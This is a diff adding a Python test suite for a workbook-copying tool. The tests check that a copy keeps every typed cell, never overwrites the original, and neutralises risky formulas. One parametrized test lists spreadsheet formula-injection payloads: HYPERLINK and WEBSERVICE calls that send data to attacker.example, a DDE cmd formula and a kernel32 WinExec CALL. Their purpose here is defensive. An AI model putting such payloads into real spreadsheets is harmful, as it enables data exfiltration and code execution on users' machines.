@@ -1,0 +1,291 @@
+"""Copies of people's workbooks: everything typed is there, at its own address, and the original is never written to."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+
+from appraisal.workbook import Book, InputFaults, examine
+from appraisal.workbook.adding import Added, add_sheets
+from appraisal.workbook.book import cell_position, column_letters
+from appraisal.workbook.cells import is_blank
+from appraisal.workbook.copying import pages_of
+from appraisal.workbook.marking import write_marked
+from appraisal.workbook.raw import Raw
+from appraisal.workbook.read import workbook_grids
+from appraisal.workbook.schema import EXAMPLE, START_HERE
+from tests.workbook.builders import Grids, grids_of, small_book, write_grids, written
+from tests.workbook.hostile import HOSTILE
+from tests.workbook.strategies import books, fits_xlsx
+
+
+def cells_in(path: Path) -> dict[tuple[str, str], Raw]:
+    """Return what stands in every cell of a workbook but its first sheet."""
+    return {
+        (grid.name, f"{column_letters(column)}{row + 1}"): raw
+        for grid in workbook_grids(path)
+        if grid.name != START_HERE
+        for row, cells in enumerate(grid.rows)
+        for column, raw in enumerate(cells)
+        if not is_blank(raw)
+    }
+
+
+def formulas_in(path: Path) -> dict[tuple[str, str], str]:
+    """Return the formulas of a workbook, without those that list the years of the period beside the form."""
+    return {
+        (grid.name, f"{column_letters(column)}{row + 1}"): grid.formulas[row, column]
+        for grid in workbook_grids(path)
+        for row, column in grid.formulas
+        if grid.name != "About"
+    }
+
+
+def lost(original: Path, copy: Path) -> dict[tuple[str, str], Any]:
+    """Return what stands otherwise in the copy than in the original, or not at all."""
+    before, after = cells_in(original), cells_in(copy)
+    return {place: (raw, after.get(place)) for place, raw in before.items() if after.get(place) != raw}
+
+
+def digest(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def copied(source: Path, out: Path) -> Added:
+    return add_sheets(source, [], out)
+
+
+def shuffled(book: Book) -> Grids:
+    """Return the book as somebody might lay it out: columns the other way round, headings in row 9, jottings about."""
+    grids = grids_of(book)
+    for name, (headings, *rows) in grids.items():
+        if headings[0] == "Field":
+            continue
+        example = [EXAMPLE, *[None] * (len(headings) - 1)]
+        table = [[None, *reversed(line), None, None] for line in (headings, example, *rows)]
+        table[3:3] = [[None] * 3, [None] * 3]  # blank rows among the data
+        above: list[list[Any]] = [[None] * 3 for _ in range(8)]
+        above[0][1] = f"{name} of the working party"
+        above[5][2] = 41.5
+        table[1].append("not yet agreed")
+        table[-1] += ["call Ann", dt.date(2026, 5, 4), 1250.75, True]
+        table[0][-1] = "Our own remarks"
+        grids[name] = [*above, *table, [None], [None, "checked by two people"]]
+    return grids
+
+
+def test_everything_typed_is_at_its_own_address_in_a_copy_however_it_was_laid_out(tmp_path: Path) -> None:
+    source = write_grids(shuffled(small_book()), tmp_path / "mine.xlsx")
+    copied(source, tmp_path / "copy.xlsx")
+    assert len(cells_in(source)) > 400
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    assert examine(tmp_path / "copy.xlsx") == examine(source)
+
+
+def test_a_page_knows_the_columns_the_heading_row_and_the_example_of_a_shuffled_sheet(tmp_path: Path) -> None:
+    copy = pages_of(write_grids(shuffled(small_book()), tmp_path / "mine.xlsx"))
+    costs = next(page for page in copy.pages if page.title == "Costs")
+    assert costs.heading_row == 8
+    assert costs.example == 9
+    assert costs.columns["id"] == max(costs.columns.values())
+    assert costs.last_row > max(row for row, _ in costs.contents)
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(books().filter(fits_xlsx))
+def test_a_copy_of_any_workbook_holds_what_the_workbook_holds(tmp_path: Path, book: Book) -> None:
+    source = written(book, tmp_path / "source.xlsx")
+    before = digest(source)
+    copied(source, tmp_path / "copy.xlsx")
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    assert digest(source) == before
+
+
+def test_a_copy_of_a_copy_is_the_same_file(tmp_path: Path) -> None:
+    source = written(small_book(), tmp_path / "source.xlsx")
+    one, two = tmp_path / "one" / "copy.xlsx", tmp_path / "two" / "copy.xlsx"
+    for folder in (one.parent, two.parent):
+        folder.mkdir()
+    copied(source, one)
+    copied(one, two)
+    assert one.read_bytes() == two.read_bytes()
+
+
+# Formulas.
+
+
+def with_costs(path: Path, cells: Mapping[str, Any], book: Book | None = None) -> Path:
+    """Write the small book with these cells of the Costs sheet; a pair is a formula with its result."""
+    grids = grids_of(book or small_book())
+    rows = grids["Costs"]
+    for address, content in cells.items():
+        row, column = cell_position(address)
+        while len(rows) <= row:
+            rows.append([])
+        rows[row] += [None] * (column + 1 - len(rows[row]))
+        rows[row][column] = content
+    return write_grids(grids, path)
+
+
+def test_a_sum_over_the_workbooks_own_cells_stays_a_formula(tmp_path: Path) -> None:
+    kept = {
+        "AE2": ("=SUM(F3:F4)*2", 1600.0),
+        "AE3": ("=IF('Criteria'!A2=\"cost\",1,0)", 1.0),
+        "AE4": ('=IF(B2="Staff","","no")', ""),
+        "AE5": ("=ROUND($F$3/0,2)", "#DIV/0!"),
+    }
+    source = with_costs(tmp_path / "mine.xlsx", kept)
+    added = copied(source, tmp_path / "copy.xlsx")
+    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)
+    assert len(formulas_in(source)) == 4
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    assert added.notes == ()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+        '=WEBSERVICE("https://attacker.example")',
+        "=cmd|'/c calc'!A0",
+        "='[other.xlsx]Costs'!A1",
+        "=[1]Costs!A1",
+        '=INDIRECT("A1")',
+        "=Notes!A1",
+        "=OurTotal*2",
+        "=Table1[Cost]",
+        '=CALL("kernel32","WinExec","JJC","calc",1)',
+        "=A1:INDEX(B:B,3)",
+        "=SUM({1,2})",
+        "=Costs!A1:Risks!B2",
+    ],
+)
+def test_a_formula_that_reaches_outside_gives_way_to_its_result_and_is_said(formula: str, tmp_path: Path) -> None:
+    source = with_costs(tmp_path / "mine.xlsx", {"AE2": (formula, 7.0)})
+    added = copied(source, tmp_path / "copy.xlsx")
+    assert formulas_in(tmp_path / "copy.xlsx") == {}
+    assert cells_in(tmp_path / "copy.xlsx")["Costs", "AE2"] == 7.0
+    (note,) = added.notes
+    assert (note.sheet, note.cell) == ("Costs", "AE2")
+    assert formula[:20] in note.found
+
+
+def test_a_formula_on_a_sheet_of_ones_own_is_not_copied_and_the_sheet_is_listed(tmp_path: Path) -> None:
+    grids = grids_of(small_book()) | {"Workings": [["=A1", 3.0]], "Options 2": [["x"]]}
+    added = copied(write_grids(grids, tmp_path / "mine.xlsx"), tmp_path / "copy.xlsx")
+    assert "Workings" in added.left_out
+    assert "Workings" not in [grid.name for grid in workbook_grids(tmp_path / "copy.xlsx")]
+
+
+def test_a_formula_without_a_result_has_none_in_the_copy_and_an_error_stays_an_error(tmp_path: Path) -> None:
+    errors = {"G3": ("=SUM(F9)/0", "#DIV/0!"), "G4": ("=GONE()", "#NAME?")}
+    source = with_costs(tmp_path / "mine.xlsx", {"G2": ("=F3*2", ""), **errors})
+    faults = {fault.cell: fault.code for fault in examine(source).faults}
+    assert faults == {"G2": "formula-without-value", "G3": "formula-error", "G4": "formula-error"}
+    copied(source, tmp_path / "copy.xlsx")
+    assert {fault.cell: fault.code for fault in examine(tmp_path / "copy.xlsx").faults} == faults
+
+
+def test_a_formula_that_reaches_outside_and_has_no_result_is_a_fault_in_the_copy_too(tmp_path: Path) -> None:
+    source = with_costs(tmp_path / "mine.xlsx", {"G3": ("=GONE()", "")})
+    copied(source, tmp_path / "copy.xlsx")
+    (fault,) = examine(tmp_path / "copy.xlsx").faults
+    assert (fault.cell, fault.code) == ("G3", "formula-error")
+
+
+# What a spreadsheet shows otherwise.
+
+
+def test_merged_cells_are_parted_hidden_ones_shown_and_both_are_said(tmp_path: Path) -> None:
+    path = tmp_path / "mine.xlsx"
+    write_grids(grids_of(small_book()), path)
+    book = openpyxl.load_workbook(path)
+    costs = book["Costs"]
+    costs["AE1"], costs["AE2"] = "Ours", "two rows of notes"
+    costs.merge_cells("AE2:AF3")
+    costs.row_dimensions[3].hidden = True
+    costs.column_dimensions["C"].hidden = True
+    book["Risks"].sheet_state = "hidden"
+    book.save(path)
+    added = copied(path, tmp_path / "copy.xlsx")
+    copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")
+    assert not copy["Costs"].merged_cells.ranges
+    assert copy["Costs"]["AE2"].value == "two rows of notes"
+    assert not copy["Costs"].row_dimensions[3].hidden
+    assert copy["Risks"].sheet_state == "visible"
+    assert [str(note) for note in added.notes if note.sheet in ("Costs", "Risks")] == [
+        "Costs: hidden rows (3) are shown.",
+        "Costs: hidden columns (C) are shown.",
+        "Costs!AE2: the merged cells AE2:AF3 are apart, with what they show in the first.",
+        "Risks: the sheet was hidden and is shown.",
+    ]
+
+
+def test_dates_stay_dates_where_no_date_belongs_and_times_are_written_out(tmp_path: Path) -> None:
+    source = with_costs(tmp_path / "mine.xlsx", {"B2": dt.date(2026, 5, 4), "R2": dt.date(2010, 11, 1)})
+    copied(source, tmp_path / "copy.xlsx")
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    book = openpyxl.load_workbook(source)
+    book["Costs"]["AE2"] = dt.time(8, 30)
+    book.save(tmp_path / "timed.xlsx")
+    added = copied(tmp_path / "timed.xlsx", tmp_path / "copy.xlsx")
+    assert cells_in(tmp_path / "copy.xlsx")["Costs", "AE2"] == "08:30:00"
+    assert [note.cell for note in added.notes] == ["AE2"]
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_text_is_the_same_text_in_a_copy_and_runs_nowhere(text: str, tmp_path: Path) -> None:
+    source = with_costs(tmp_path / "mine.xlsx", {"B2": text, "AE9": text})
+    copied(source, tmp_path / "copy.xlsx")
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+    costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
+    assert (costs["B2"].data_type, costs["AE9"].data_type) == ("s", "s")
+    assert costs["B2"].hyperlink is None
+
+
+def test_control_characters_and_escapes_of_the_file_format_come_through(tmp_path: Path) -> None:
+    source = with_costs(tmp_path / "mine.xlsx", {"B2": "bell\x07 and _x0007_ and\r\nline", "AE2": "<r><t>rich</t></r>"})
+    copied(source, tmp_path / "copy.xlsx")
+    assert lost(source, tmp_path / "copy.xlsx") == {}
+
+
+# The original.
+
+
+def test_a_copy_is_never_written_over_the_original_by_whatever_name(tmp_path: Path) -> None:
+    source = written(small_book(), tmp_path / "mine.xlsx")
+    before = digest(source)
+    (tmp_path / "linked.xlsx").hardlink_to(source)
+    for out in (source, tmp_path / "." / "mine.xlsx", tmp_path / "linked.xlsx"):
+        for write in (write_marked, copied):
+            with pytest.raises(InputFaults) as refused:
+                write(source, out)
+            assert [fault.code for fault in refused.value.faults] == ["over-the-original"]
+    assert digest(source) == before
+
+
+def test_a_copy_that_cannot_be_written_is_one_sentence(tmp_path: Path) -> None:
+    source = written(small_book(), tmp_path / "mine.xlsx")
+    (tmp_path / "taken.xlsx").mkdir()
+    for out in (tmp_path / "taken.xlsx", tmp_path / "nowhere" / "copy.xlsx"):
+        with pytest.raises(InputFaults) as refused:
+            write_marked(source, out)
+        assert [fault.code for fault in refused.value.faults] == ["not-writable"]
+        assert "open in Excel" in str(refused.value)
+    assert not (tmp_path / "nowhere").exists()
+
+
+def test_a_file_that_cannot_be_used_is_refused_as_it_is_by_the_check(tmp_path: Path) -> None:
+    (tmp_path / "not.xlsx").write_text("<html>", encoding="utf-8")
+    for write in (write_marked, copied):
+        with pytest.raises(InputFaults) as refused:
+            write(tmp_path / "not.xlsx", tmp_path / "out.xlsx")
+        assert refused.value.faults == examine(tmp_path / "not.xlsx").faults
+    assert not (tmp_path / "out.xlsx").exists()
